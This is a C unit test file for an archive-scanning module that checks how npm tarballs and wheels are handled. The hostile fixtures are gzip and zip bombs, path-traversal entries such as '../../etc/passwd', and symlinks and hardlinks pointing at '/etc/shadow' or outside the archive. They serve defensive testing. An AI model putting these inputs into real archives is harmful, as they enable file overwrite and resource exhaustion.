/* unit tests: analysis/archive.h. Every archive is made here with
 * libarchive's writer (in memory, or in a temporary directory under /tmp):
 * honest npm tarballs and wheels, bombs, hostile paths and links, broken
 * and non-archive input. The first test builds a 50 MB / 10,000-file
 * tarball and prints how long the walk takes and how much memory it uses. */
#include <archive.h>
#include <archive_entry.h>
#include <errno.h>
#include <fcntl.h>
#include <locale.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "analysis/archive.h"
#include "common/buf.h"
#include "common/digest.h"
#include "tests/unit/archive_writer.h"
#include "tests/unit/test.h"

#define MB (1024 * 1024)

static char g_dir[64];

/* ---- writing archives: tests/unit/archive_writer.h ---- */

/* len zeros, streamed through the writer */
static void w_zeros(struct archive *a, const char *path, int64_t len)
{
    static char zeros[MB];
    w_entry(a, path, AE_IFREG, NULL, 0, NULL, len);
    for (int64_t left = len; left > 0; left -= MB)
        archive_write_data(a, zeros, left < MB ? (size_t)left : MB);
}


/* text that compresses roughly like source code */
static void fill_text(char *p, size_t n, uint32_t *seed)
{
    static const char *const words[] = {"function", " ", "return", "const", "=", "(", ")", "{", "}", ";\n", "this",
                                        "value", "module", "exports", ".", "require", "'", "if", "else", "null"};
    size_t i = 0;
    while (i < n) {
        *seed = *seed * 1103515245u + 12345u;
        const char *w = words[(*seed >> 16) % 20];
        size_t k = strlen(w);
        if (((*seed >> 8) & 7) == 0) { /* some noise */
            p[i++] = (char)('a' + (*seed >> 20) % 26);
            continue;
        }
        if (k > n - i)
            k = n - i;
        memcpy(p + i, w, k);
        i += k;
    }
}

/* ---- walking ---- */

typedef struct got {
    buf_t files;   /* "path:depth\n" for every file the walk asked about */
    buf_t content; /* "path=<bytes>\n", "+" before the newline when truncated */
    size_t want;
    const char *only; /* want only this path */
} got_t;

static size_t on_want(void *arg, const archive_entry_info_t *e)
{
    got_t *g = arg;
    buf_printf(&g->files, "%s:%d\n", e->path, e->depth);
    if (g->only != NULL && strcmp(e->path, g->only) != 0)
        return 0;
    return g->want;
}

static void on_content(void *arg, const archive_entry_info_t *e, const char *data, size_t len, int truncated)
{
    got_t *g = arg;
    buf_puts(&g->content, e->path);
    buf_putc(&g->content, '=');
    buf_append(&g->content, data, len);
    buf_puts(&g->content, truncated ? "+\n" : "\n");
}

static void got_init(got_t *g, size_t want, const char *only)
{
    memset(g, 0, sizeof(*g));
    buf_init(&g->files);
    buf_init(&g->content);
    g->want = want;
    g->only = only;
}

static void got_free(got_t *g)
{
    buf_free(&g->files);
    buf_free(&g->content);
}

static const char *s_of(buf_t *b) { return b->len ? buf_cstr(b) : ""; }

static void walk_mem(const buf_t *b, const archive_limits_t *lim, got_t *g, archive_report_t *r)
{
    CHECK_INT_EQ(archive_walk_memory(b->data, b->len, lim, on_want, on_content, g, r), 0);
}

static void save(const char *name, const void *p, size_t n, char *path, size_t pathlen)
{
    snprintf(path, pathlen, "%s/%s", g_dir, name);
    FILE *f = fopen(path, "wb");
    if (f != NULL) {
        if (n > 0)
            fwrite(p, 1, n, f);
        fclose(f);
    }
}

#define CHECK_CONTAINS(hay, needle)                                                                                    \
    do {                                                                                                               \
        const char *h_ = (hay), *n_ = (needle);                                                                        \
        if (!test_note(strstr(h_, n_) != NULL, __FILE__, __LINE__))                                                    \
            fprintf(stderr, "\"%s\" does not contain \"%s\"\n", h_, n_);                                               \
    } while (0)

/* ---- tests ---- */

/* the listing (archive_visitor_t.entry): "path kind bytes sha256-prefix\n" */
static void on_entry(void *arg, const archive_entry_info_t *e, int64_t bytes, const unsigned char *sha256)
{
    buf_t *b = arg;
    char hex[17] = "-";
    if (sha256 != NULL)
        hex_encode(sha256, 8, hex);
    buf_printf(b, "%s %d %lld %s\n", e->path, (int)e->kind, (long long)bytes, hex);
}

static long rss_kb(const char *field)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    long v = -1;
    size_t n = strlen(field);
    while (f != NULL && fgets(line, sizeof(line), f) != NULL)
        if (strncmp(line, field, n) == 0)
            v = atol(line + n + 1);
    if (f != NULL)
        fclose(f);
    return v;
}

static double now_ms(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec * 1e3 + ts.tv_nsec / 1e6;
}

/* 50 MB in 10,000 files: time and memory of a walk that wants only the
 * package.json. Printed, not asserted (machines differ, sanitizers too). */
TEST(speed_50mb_10k_files)
{
    char path[128];
    snprintf(path, sizeof(path), "%s/big.tgz", g_dir);
    double t0 = now_ms();
    struct archive *a = w_new(TGZ, NULL, path);
    const char *pj = "{\"name\":\"big\",\"version\":\"1.0.0\"}";
    w_file(a, "package/package.json", pj);
    /* files are slices of a 1 MB pool, far apart enough that gzip's 32 kB
     * window does not see one file repeat another */
    char *pool = malloc(MB);
    uint32_t seed = 42;
    fill_text(pool, MB, &seed);
    int64_t bytes = 0;
    for (int i = 0; i < 10000; i++) {
        char name[64];
        snprintf(name, sizeof(name), "package/lib/d%02d/f%05d.js", i % 50, i);
        size_t n = 2621 + (size_t)(i * 7919 % 5243); /* 2.5 to 7.7 kB, 5.2 kB on average */
        seed = seed * 1103515245u + 12345u;
        w_entry(a, name, AE_IFREG, NULL, 0, pool + (seed >> 8) % (MB - 8192), (int64_t)n);
        bytes += (int64_t)n;
    }
    free(pool);
    w_close(a);
    double t1 = now_ms();
    struct stat st;
    CHECK_INT_EQ(stat(path, &st), 0);

    /* reset the peak so that it measures the walk alone */
    int fd = open("/proc/self/clear_refs", O_WRONLY);
    int reset = fd >= 0 && write(fd, "5", 1) == 1;
    if (fd >= 0)
        close(fd);
    struct rusage ru0, ru1;
    getrusage(RUSAGE_SELF, &ru0);
    long rss0 = rss_kb("VmRSS:");

    got_t g;
    got_init(&g, 4096, "package/package.json");
    archive_report_t r;
    double t2 = now_ms();
    CHECK_INT_EQ(archive_walk_file(path, NULL, on_want, on_content, &g, &r), 0);
    double t3 = now_ms();
    getrusage(RUSAGE_SELF, &ru1);
    long hwm = rss_kb("VmHWM:");

    CHECK_INT_EQ(r.malformed, 0);
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_INT_EQ(r.entries, 10001);
    CHECK_INT_EQ(r.total, bytes + (int64_t)strlen(pj));
    CHECK_STR_EQ(s_of(&g.content), "package/package.json={\"name\":\"big\",\"version\":\"1.0.0\"}\n");
    printf("speed: %.1f MB in 10001 files, %.1f MB compressed (built in %.0f ms): walk %.1f ms, "
           "max RSS +%ld kB (getrusage%s), VmHWM - VmRSS before = %ld kB\n",
           bytes / (double)MB, st.st_size / (double)MB, t1 - t0, t3 - t2, ru1.ru_maxrss - ru0.ru_maxrss,
           reset ? ", peak reset" : ", peak NOT reset", hwm >= 0 && rss0 >= 0 ? hwm - rss0 : -1);
    got_free(&g);
    unlink(path);
}

static const char NPM_PJ[] = "{\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}";
static const char NPM_INDEX[] = "module.exports = function demo() { return 'a fairly long line of code'; };\n";
#define NPM_TOTAL ((int64_t)(sizeof(NPM_PJ) - 1 + sizeof(NPM_INDEX) - 1 + 7 + 15 + 40000))

static void make_npm(buf_t *out)
{
    struct archive *a = w_new(TGZ, out, NULL);
    w_entry(a, "package/", AE_IFDIR, NULL, 0, NULL, 0);
    w_file(a, "package/package.json", NPM_PJ);
    w_file(a, "package/index.js", NPM_INDEX);
    w_file(a, "./package/README.md", "# demo\n");
    w_entry(a, "package/lib/", AE_IFDIR, NULL, 0, NULL, 0);
    w_file(a, "package/lib/a.js", "exports.a = 1;\n");
    w_entry(a, "package/bin/demo", AE_IFLNK, "../lib/a.js", 0, NULL, 0); /* a link that stays inside */
    static char big[40000];
    uint32_t seed = 7;
    fill_text(big, sizeof(big), &seed);
    w_entry(a, "package/lib/big.js", AE_IFREG, NULL, 0, big, sizeof(big));
    w_close(a);
}

TEST(npm_tarball)
{
    buf_t b;
    buf_init(&b);
    make_npm(&b);
    got_t g;
    got_init(&g, 1 << 20, NULL);
    archive_report_t r;
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_STR_EQ(r.unsafe_why, "");
    CHECK_INT_EQ(r.entries, 8);
    CHECK_INT_EQ(r.total, NPM_TOTAL);
    CHECK_STR_EQ(s_of(&g.files), "package/package.json:2\npackage/index.js:2\npackage/README.md:2\n"
                                 "package/lib/a.js:3\npackage/lib/big.js:3\n");
    CHECK_CONTAINS(s_of(&g.content), "package/package.json={\"name\":\"demo\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n"
                                     "package/index.js=module.exports");
    CHECK_CONTAINS(s_of(&g.content), "package/README.md=# demo\n\npackage/lib/a.js=exports.a = 1;\n\n");
    got_free(&g);

    /* want limits the bytes handed over */
    got_init(&g, 10, "package/index.js");
    walk_mem(&b, NULL, &g, &r);
    CHECK_STR_EQ(s_of(&g.content), "package/index.js=module.exp+\n");
    CHECK_INT_EQ(r.total, NPM_TOTAL); /* the rest was still read and counted */
    got_free(&g);
    got_init(&g, 15, "package/lib/a.js"); /* exactly the size: not truncated */
    walk_mem(&b, NULL, &g, &r);
    CHECK_STR_EQ(s_of(&g.content), "package/lib/a.js=exports.a = 1;\n\n");
    got_free(&g);
    /* more than 4 MB asked: 4 MB at most, here the whole 40 kB */
    got_init(&g, (size_t)64 * MB, "package/lib/big.js");
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(g.content.len, strlen("package/lib/big.js=\n") + 40000);
    got_free(&g);
    /* no callbacks at all */
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.entries, 8);
    CHECK_INT_EQ(r.malformed, 0);
    /* the listing: every entry with its counted bytes, files with the
     * SHA-256 of their content (what the version view's diff compares) */
    buf_t list;
    buf_init(&list);
    archive_visitor_t v = {.entry = on_entry, .arg = &list};
    CHECK_INT_EQ(archive_walk_memory_as(b.data, b.len, ARCHIVE_TAR_OR_ZIP, NULL, &v, &r), 0);
    char want_a[65];
    sha256_hex("exports.a = 1;\n", 15, want_a);
    char line[128];
    snprintf(line, sizeof(line), "package/lib/a.js %d 15 %.16s\n", ARCHIVE_ENTRY_FILE, want_a);
    CHECK_CONTAINS(s_of(&list), line);
    snprintf(line, sizeof(line), "package/lib/ %d 0 -\n", ARCHIVE_ENTRY_DIR);
    CHECK_CONTAINS(s_of(&list), line);
    CHECK_INT_EQ(r.entries, 8);
    size_t lines = 0;
    for (size_t i = 0; i < list.len; i++)
        lines += list.data[i] == '\n';
    CHECK_INT_EQ(lines, 8);
    buf_free(&list);
    buf_free(&b);
}

/* memory and file give the same report and the same callbacks */
static void same_both_ways(const buf_t *b, const archive_limits_t *lim, const char *name)
{
    char path[128];
    save(name, b->data, b->len, path, sizeof(path));
    got_t gm, gf;
    got_init(&gm, 100, NULL);
    got_init(&gf, 100, NULL);
    archive_report_t rm, rf;
    CHECK_INT_EQ(archive_walk_memory(b->data, b->len, lim, on_want, on_content, &gm, &rm), 0);
    CHECK_INT_EQ(archive_walk_file(path, lim, on_want, on_content, &gf, &rf), 0);
    CHECK_INT_EQ(rm.malformed, rf.malformed);
    CHECK_STR_EQ(rm.malformed_why, rf.malformed_why);
    CHECK_INT_EQ(rm.unsafe, rf.unsafe);
    CHECK_STR_EQ(rm.unsafe_why, rf.unsafe_why);
    CHECK_INT_EQ(rm.entries, rf.entries);
    CHECK_INT_EQ(rm.total, rf.total);
    CHECK_STR_EQ(s_of(&gm.files), s_of(&gf.files));
    CHECK_STR_EQ(s_of(&gm.content), s_of(&gf.content));
    got_free(&gm);
    got_free(&gf);
    unlink(path);
}

TEST(memory_and_file_agree)
{
    buf_t b;
    buf_init(&b);
    make_npm(&b);
    same_both_ways(&b, NULL, "npm.tgz");
    buf_reset(&b);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, "pkg/__init__.py", "x = 1\n");
    w_file(a, "../evil.py", "import os\n");
    w_close(a);
    same_both_ways(&b, NULL, "w.zip");
    buf_reset(&b);
    buf_puts(&b, "hello, not an archive\n");
    same_both_ways(&b, NULL, "t.txt");
    buf_free(&b);

    /* what a file walk refuses to open */
    archive_report_t r;
    char path[128];
    snprintf(path, sizeof(path), "%s/missing.tgz", g_dir);
    errno = 0;
    CHECK_INT_EQ(archive_walk_file(path, NULL, NULL, NULL, NULL, &r), -1);
    CHECK_INT_EQ(errno, ENOENT);
    CHECK_INT_EQ(archive_walk_file(g_dir, NULL, NULL, NULL, NULL, &r), -1);
    CHECK_INT_EQ(errno, EISDIR);
}

TEST(wheel_zip)
{
    buf_t b;
    buf_init(&b);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, "pkg/__init__.py", "from .core import run\n");
    w_file(a, "pkg/core.py", "def run():\n    return 42\n");
    w_file(a, "pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n");
    w_file(a, "pkg-1.0.dist-info/RECORD", "pkg/__init__.py,,\n");
    w_close(a);
    got_t g;
    got_init(&g, 4096, "pkg-1.0.dist-info/METADATA");
    archive_report_t r;
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_STR_EQ(r.malformed_why, "");
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_INT_EQ(r.entries, 4);
    CHECK_STR_EQ(s_of(&g.files), "pkg/__init__.py:2\npkg/core.py:2\npkg-1.0.dist-info/METADATA:2\n"
                                 "pkg-1.0.dist-info/RECORD:2\n");
    CHECK_STR_EQ(s_of(&g.content), "pkg-1.0.dist-info/METADATA=Metadata-Version: 2.1\nName: pkg\nVersion: 1.0\n\n");
    got_free(&g);
    buf_free(&b);
}

/* names beyond ASCII whatever the process locale: a zip's UTF-8 names,
 * pax's UTF-8 paths, and raw non-UTF-8 bytes in an old-style header */
TEST(non_ascii_names)
{
    const char *zname = "pkg/caf\xc3\xa9_\xe6\x97\xa5\xe6\x9c\xac.py";
    buf_t b;
    buf_init(&b);
    /* the writer needs a UTF-8 locale to mark names UTF-8; the walks below
     * run in this process's C locale */
    locale_t utf8 = newlocale(LC_CTYPE_MASK, "C.UTF-8", (locale_t)0);
    CHECK(utf8 != (locale_t)0);
    if (utf8 == (locale_t)0)
        return;
    locale_t was = uselocale(utf8);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, zname, "x");
    w_close(a);
    uselocale(was);
    CHECK(memmem(b.data, b.len, zname, strlen(zname)) != NULL);
    got_t g;
    got_init(&g, 10, NULL);
    archive_report_t r;
    walk_mem(&b, NULL, &g, &r);
    CHECK_STR_EQ(r.malformed_why, "");
    CHECK_INT_EQ(r.entries, 1);
    CHECK_STR_EQ(s_of(&g.files), "pkg/caf\xc3\xa9_\xe6\x97\xa5\xe6\x9c\xac.py:2\n");
    got_free(&g);

    buf_reset(&b);
    uselocale(utf8);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/\xc3\xbc.js", "1"); /* a pax "path" record */
    w_close(a);
    uselocale(was);
    freelocale(utf8);
    got_init(&g, 10, NULL);
    walk_mem(&b, NULL, &g, &r);
    CHECK_STR_EQ(r.malformed_why, "");
    CHECK_STR_EQ(s_of(&g.content), "package/\xc3\xbc.js=1\n");
    got_free(&g);

    buf_reset(&b);
    a = w_new(USTAR_GZ, &b, NULL);
    w_file(a, "package/caf\xe9.js", "2"); /* Latin-1 bytes, as they are */
    w_close(a);
    got_init(&g, 10, NULL);
    walk_mem(&b, NULL, &g, &r);
    CHECK_STR_EQ(r.malformed_why, "");
    CHECK_INT_EQ(r.entries, 1);
    CHECK_STR_EQ(s_of(&g.content), "package/caf\xe9.js=2\n");
    got_free(&g);
    buf_free(&b);
}

TEST(nested_archive_is_a_file)
{
    buf_t inner, b;
    buf_init(&inner);
    buf_init(&b);
    struct archive *a = w_new(ZIP, &inner, NULL);
    w_file(a, "../../inner-evil", "x");
    w_close(a);
    a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{}");
    w_entry(a, "package/vendor/x.zip", AE_IFREG, NULL, 0, inner.data, (int64_t)inner.len);
    w_close(a);
    got_t g;
    got_init(&g, 0, NULL);
    archive_report_t r;
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_INT_EQ(r.entries, 2);
    CHECK_INT_EQ(r.total, 2 + (int64_t)inner.len);
    CHECK_STR_EQ(s_of(&g.files), "package/package.json:2\npackage/vendor/x.zip:3\n");
    got_free(&g);
    buf_free(&inner);
    buf_free(&b);
}

TEST(gzip_bomb)
{
    buf_t b;
    buf_init(&b);
    struct archive *a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{}");
    w_zeros(a, "package/zeros.bin", (int64_t)300 * MB); /* 1.3 MB at gzip level 1 */
    w_close(a);
    CHECK(b.len < 2 * MB);

    got_t g;
    got_init(&g, 16, NULL);
    archive_report_t r;
    /* default limits: not its size (an entry may be 8 GB) but its ratio
     * gives it away, long before the 300 MB have come out */
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "uncompressed size exceeds 200\xc3\x97 the archive (zip bomb?)");
    CHECK(r.total <= 200 * (int64_t)b.len + 128 * 1024);
    CHECK_STR_EQ(s_of(&g.content), "package/package.json={}\n"); /* nothing from the bomb itself */
    buf_reset(&g.content);

    /* headers not trusted: the bytes are counted */
    archive_limits_t l;
    archive_limits_default(&l);
    l.max_entry = INT64_MAX;
    l.max_ratio = INT64_MAX;
    l.max_total = 64 * MB;
    walk_mem(&b, &l, &g, &r);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "uncompressed size exceeds 64 MB");
    CHECK_INT_EQ(r.total, 64 * MB);

    archive_limits_default(&l);
    l.max_entry = INT64_MAX;
    l.max_total = INT64_MAX;
    walk_mem(&b, &l, &g, &r);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "uncompressed size exceeds 200\xc3\x97 the archive (zip bomb?)");
    CHECK(r.total <= 200 * (int64_t)b.len + 128 * 1024);

    l.max_entry = 32 * MB;
    buf_reset(&g.content);
    walk_mem(&b, &l, &g, &r);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "entry 'package/zeros.bin' is larger than 32 MB");
    CHECK_STR_EQ(s_of(&g.content), "package/package.json={}\n"); /* nothing from the bomb itself */
    got_free(&g);
    buf_free(&b);
}

TEST(zip_bomb)
{
    buf_t b;
    buf_init(&b);
    struct archive *a = w_new(ZIP, &b, NULL);
    w_file(a, "METADATA", "Name: x\n");
    w_zeros(a, "data.bin", 16 * MB);
    w_close(a);
    CHECK(b.len < 200 * 1024);
    archive_report_t r;
    got_t g;
    got_init(&g, 1, NULL);
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "uncompressed size exceeds 200\xc3\x97 the archive (zip bomb?)");
    CHECK(r.total > MB && r.total < 16 * MB);
    got_free(&g);
    buf_free(&b);
}

/* n bytes no compressor can shrink (xorshift) */
static void fill_random(char *p, size_t n, uint64_t *x)
{
    for (size_t i = 0; i < n; i++) {
        *x ^= *x << 13;
        *x ^= *x >> 7;
        *x ^= *x << 17;
        p[i] = (char)(*x >> 24);
    }
}

/* a big file of random bytes, then the manifest (as real wheels order it),
 * in a tar.gz of stored deflate blocks (gzip level 0) or a zip of stored
 * entries: the ratio is ~1 */
static void make_stored(int zip, buf_t *b, size_t big)
{
    struct archive *a = archive_write_new();
    if (zip) {
        archive_write_set_format_zip(a);
        archive_write_zip_set_compression_store(a);
    } else {
        archive_write_set_format_pax_restricted(a);
        archive_write_add_filter_gzip(a);
        archive_write_set_filter_option(a, "gzip", "compression-level", "0");
    }
    archive_write_set_bytes_in_last_block(a, 1);
    archive_write_open(a, b, NULL, to_buf, NULL);
    char *data = malloc(big);
    uint64_t x = 88172645463325252ULL;
    fill_random(data, big, &x);
    w_entry(a, "pkg/lib.so", AE_IFREG, NULL, 0, data, (int64_t)big);
    w_file(a, "pkg/MANIFEST", "name: big");
    w_close(a);
    free(data);
}

/* A big honest archive is not a bomb: stored (ratio ~1) it passes the
 * default limits, and a ratio limit far below the default's too. */
TEST(stored_archives_pass)
{
    for (int zip = 0; zip <= 1; zip++) {
        buf_t b;
        buf_init(&b);
        make_stored(zip, &b, 12 * MB);
        CHECK(b.len > 12 * MB && b.len < 12 * MB + 64 * 1024);
        got_t g;
        got_init(&g, 100, "pkg/MANIFEST");
        archive_report_t r;
        walk_mem(&b, NULL, &g, &r);
        CHECK_INT_EQ(r.malformed, 0);
        CHECK_STR_EQ(r.malformed_why, "");
        CHECK_INT_EQ(r.entries, 2);
        CHECK_INT_EQ(r.total, 12 * MB + 9);
        CHECK_STR_EQ(s_of(&g.content), "pkg/MANIFEST=name: big\n"); /* read past the big entry */
        archive_limits_t l;
        archive_limits_default(&l);
        l.max_ratio = 2;
        buf_reset(&g.content);
        walk_mem(&b, &l, &g, &r);
        CHECK_INT_EQ(r.malformed, 0);
        CHECK_STR_EQ(s_of(&g.content), "pkg/MANIFEST=name: big\n");
        got_free(&g);
        buf_free(&b);
    }
}

/* a ustar header (GNU base-256 size when it does not fit in octal) */
static void tar_header(char h[512], const char *name, int64_t size)
{
    memset(h, 0, 512);
    snprintf(h, 100, "%s", name);
    memcpy(h + 100, "0000644", 8);
    memcpy(h + 108, "0000000", 8);
    memcpy(h + 116, "0000000", 8);
    if (size < 077777777777LL) {
        snprintf(h + 124, 12, "%011llo", (long long)size);
    } else {
        h[124] = (char)0x80;
        for (int i = 0; i < 8; i++)
            h[135 - i] = (char)((uint64_t)size >> (8 * i));
    }
    memcpy(h + 136, "14000000000", 12);
    h[156] = '0';
    memcpy(h + 257, "ustar", 6);
    memcpy(h + 263, "00", 2);
    memset(h + 148, ' ', 8);
    unsigned sum = 0;
    for (int i = 0; i < 512; i++)
        sum += (unsigned char)h[i];
    snprintf(h + 148, 8, "%06o", sum);
}

/* The entry-size limit does not refuse a real 2.5 GB library (the header
 * says so; the bytes stop early here, which is what the walk reports),
 * and still refuses an entry past 8 GB on the header alone. */
TEST(entry_size_limit)
{
    buf_t b;
    buf_init(&b);
    char h[512], data[64 * 1024];
    memset(data, 'x', sizeof(data));
    tar_header(h, "pkg/libtorch_cuda.so", 2500LL * MB);
    buf_append(&b, h, sizeof(h));
    buf_append(&b, data, sizeof(data));
    archive_report_t r;
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK(strstr(r.malformed_why, "larger than") == NULL);
    CHECK_CONTAINS(r.malformed_why, "runcated");
    CHECK_INT_EQ(r.entries, 1);
    CHECK_INT_EQ(r.total, (int64_t)sizeof(data));

    buf_reset(&b);
    tar_header(h, "pkg/huge.bin", 8193LL * MB);
    buf_append(&b, h, sizeof(h));
    buf_append(&b, data, sizeof(data));
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
    CHECK_STR_EQ(r.malformed_why, "entry 'pkg/huge.bin' is larger than 8 GB");
    CHECK_INT_EQ(r.total, 0);
    buf_free(&b);
}

/* a tgz with one hostile entry between two honest ones */
static void check_unsafe(unsigned type, const char *path, const char *link, int hard, const char *why)
{
    buf_t b;
    buf_init(&b);
    struct archive *a = w_new(TGZ, &b, NULL);
    w_file(a, "package/package.json", "{}");
    w_entry(a, path, type, link, hard, type == AE_IFREG ? "root:x:0:0" : NULL, type == AE_IFREG ? 10 : 0);
    w_file(a, "package/index.js", "1");
    w_close(a);
    got_t g;
    got_init(&g, 100, NULL);
    archive_report_t r;
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_STR_EQ(r.malformed_why, "");
    CHECK_INT_EQ(r.unsafe, 1);
    CHECK_STR_EQ(r.unsafe_why, why);
    CHECK_INT_EQ(r.entries, 3); /* the walk went on */
    /* the hostile entry's content never reaches the callbacks */
    CHECK_STR_EQ(s_of(&g.files), "package/package.json:2\npackage/index.js:2\n");
    CHECK_STR_EQ(s_of(&g.content), "package/package.json={}\npackage/index.js=1\n");
    got_free(&g);
    buf_free(&b);
}

TEST(hostile_entries)
{
    check_unsafe(AE_IFREG, "../../etc/passwd", NULL, 0, "entry '../../etc/passwd' climbs out of the archive");
    check_unsafe(AE_IFREG, "package/../../x", NULL, 0, "entry 'package/../../x' climbs out of the archive");
    check_unsafe(AE_IFREG, "package\\..\\..\\x", NULL, 0, "entry 'package\\..\\..\\x' climbs out of the archive");
    check_unsafe(AE_IFREG, "/etc/passwd", NULL, 0, "entry '/etc/passwd' has an absolute path");
    check_unsafe(AE_IFREG, "C:\\Windows\\evil.dll", NULL, 0, "entry 'C:\\Windows\\evil.dll' has an absolute path");
    check_unsafe(AE_IFREG, "\\\\server\\share\\x", NULL, 0, "entry '\\\\server\\share\\x' has an absolute path");
    check_unsafe(AE_IFLNK, "package/shadow", "/etc/shadow", 0,
                 "symlink 'package/shadow' points to an absolute path ('/etc/shadow')");
    check_unsafe(AE_IFLNK, "a/b", "../../../x", 0, "symlink 'a/b' points outside the archive ('../../../x')");
    check_unsafe(AE_IFLNK, "up", "..", 0, "symlink 'up' points outside the archive ('..')");
    check_unsafe(AE_IFREG, "package/h", "../x", 1, "hardlink 'package/h' points outside the archive ('../x')");
    check_unsafe(AE_IFREG, "package/h", "/etc/passwd", 1,
                 "hardlink 'package/h' points outside the archive ('/etc/passwd')");
    check_unsafe(AE_IFCHR, "package/null", NULL, 0, "entry 'package/null' is a character device");
    check_unsafe(AE_IFIFO, "package/fifo", NULL, 0, "entry 'package/fifo' is a fifo");
}

TEST(symlink_chains)
{
    buf_t b;
    buf_init(&b);
    archive_report_t r;
    /* each link alone stays inside; together they climb out */
    struct archive *a = w_new(TGZ, &b, NULL);
    w_entry(a, "package/l1", AE_IFLNK, ".", 0, NULL, 0);
    w_entry(a, "package/l2", AE_IFLNK, "l1/../..", 0, NULL, 0);
    w_close(a);
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.unsafe, 1);
    CHECK_STR_EQ(r.unsafe_why, "symlink 'package/l2' has '..' after a directory name ('l1/../..')");

    /* a file written through a symlink */
    buf_reset(&b);
    a = w_new(TGZ, &b, NULL);
    w_entry(a, "package/lib", AE_IFLNK, "src", 0, NULL, 0);
    w_file(a, "package/./lib/x.js", "1");
    w_close(a);
    got_t g;
    got_init(&g, 10, NULL);
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.unsafe, 1);
    CHECK_STR_EQ(r.unsafe_why, "entry 'package/./lib/x.js' is written through symlink 'package/lib'");
    CHECK_STR_EQ(s_of(&g.content), "");
    got_free(&g);

    /* links that stay inside, and a file next to (not through) one */
    buf_reset(&b);
    a = w_new(TGZ, &b, NULL);
    w_entry(a, "package/node_modules/.bin/tool", AE_IFLNK, "../tool/cli.js", 0, NULL, 0);
    w_entry(a, "package/lib", AE_IFLNK, "./src/../src", 0, NULL, 0); /* '..' after a name: refused */
    w_close(a);
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_STR_EQ(r.unsafe_why, "symlink 'package/lib' has '..' after a directory name ('./src/../src')");
    buf_reset(&b);
    a = w_new(TGZ, &b, NULL);
    w_entry(a, "package/node_modules/.bin/tool", AE_IFLNK, "../tool/cli.js", 0, NULL, 0);
    w_entry(a, "package/a/b/c", AE_IFLNK, "../../x", 0, NULL, 0);
    w_entry(a, "package/lib", AE_IFLNK, "src", 0, NULL, 0);
    w_file(a, "package/library.js", "1");
    w_file(a, "package/lib.js", "1");
    w_close(a);
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_STR_EQ(r.unsafe_why, "");
    CHECK_INT_EQ(r.entries, 5);

    /* A zip symlink's mode lives in the central directory, which the
     * streaming reader never reads: it is a file holding the target's name
     * (what pip and Java make of it too: neither creates zip symlinks). */
    buf_reset(&b);
    a = w_new(ZIP, &b, NULL);
    w_file(a, "pkg/__init__.py", "");
    w_entry(a, "pkg/passwd", AE_IFLNK, "/etc/passwd", 0, NULL, 0);
    w_close(a);
    got_init(&g, 100, "pkg/passwd");
    walk_mem(&b, NULL, &g, &r);
    CHECK_INT_EQ(r.malformed, 0);
    CHECK_INT_EQ(r.unsafe, 0);
    CHECK_STR_EQ(s_of(&g.content), "pkg/passwd=/etc/passwd\n");
    got_free(&g);
    buf_free(&b);
}

TEST(too_many_entries)
{
    buf_t b;
    buf_init(&b);
    struct archive *a = w_new(USTAR_GZ, &b, NULL);
    struct archive_entry *e = archive_entry_new();
    char name[32];
    for (int i = 0; i < 100000; i++) {
        archive_entry_clear(e);
        snprintf(name, sizeof(name), "package/f%06d", i);
        archive_entry_set_pathname(e, name);
        archive_entry_set_filetype(e, AE_IFREG);
        archive_entry_set_perm(e, 0644);
        archive_entry_set_size(e, 0);
        archive_write_header(a, e);
    }
    archive_entry_free(e);
    w_close(a);
    archive_report_t r;
    CHECK_INT_EQ(archive_walk_memory(b.data, b.len, NULL, NULL, NULL, NULL, &r), 0);
    CHECK_INT_EQ(r.malformed, 1);
